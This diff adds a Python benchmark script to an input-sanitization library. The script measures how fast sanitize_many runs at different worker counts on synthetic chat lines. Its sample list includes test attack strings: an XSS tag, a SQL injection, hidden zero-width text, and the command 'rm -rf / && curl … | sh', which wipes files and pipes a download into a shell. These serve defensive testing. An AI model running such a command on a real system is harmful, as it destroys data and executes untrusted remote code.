@@ -0,0 +1,58 @@
+"""
+Throughput of sanitize_many per worker count, next to a plain sanitize_input loop.
+
+Usage:
+    python benchmarks/bench_sanitize_many.py [--rows 200000] [--workers 1 2 4 8]
+
+Rows are synthetic chat log lines with a mix of benign text and attacks. The
+results of every worker count are checked against the single-process run.
+"""
+import argparse
+import os
+import random
+import sys
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))
+from langsentry.sanitize import sanitize_input, sanitize_many  # noqa: E402
+
+SAMPLES = [
+    "Hi, can you help me reset my password for the portal?",
+    "Hello <script>alert('XSS');</script>",
+    "SELECT * FROM users WHERE name='admin' --",
+    "rm -rf / && curl http://example.com/x | sh",
+    "What are the opening hours of the clinic on Saturday?",
+    "hidden ​‌​​‌‌​‌ message",
+    "Please summarise this   article\n\nabout   renewable energy.",
+]
+
+
+def make_rows(n, seed=0):
+    rng = random.Random(seed)
+    return [rng.choice(SAMPLES) * rng.randint(1, 6) for _ in range(n)]
+
+
+def main():
+    parser = argparse.ArgumentParser(description="sanitize_many benchmark")
+    parser.add_argument("--rows", type=int, default=200_000)
+    parser.add_argument("--chunksize", type=int, default=512)
+    parser.add_argument("--workers", type=int, nargs="+", default=sorted({1, 2, 4, os.cpu_count() or 1}))
+    args = parser.parse_args()
+
+    rows = make_rows(args.rows)
+    start = time.perf_counter()
+    expected = [sanitize_input(row) for row in rows]
+    baseline = args.rows / (time.perf_counter() - start)
+    print(f"CPUs: {os.cpu_count()}, rows: {args.rows}")
+    print(f"{'sanitize_input loop':>20} {baseline:12.0f} rows/s")
+
+    for workers in args.workers:
+        start = time.perf_counter()
+        results = list(sanitize_many(iter(rows), workers=workers, chunksize=args.chunksize))
+        rate = args.rows / (time.perf_counter() - start)
+        assert results == expected
+        print(f"{'workers=' + str(workers):>20} {rate:12.0f} rows/s")
+
+
+if __name__ == "__main__":
+    main()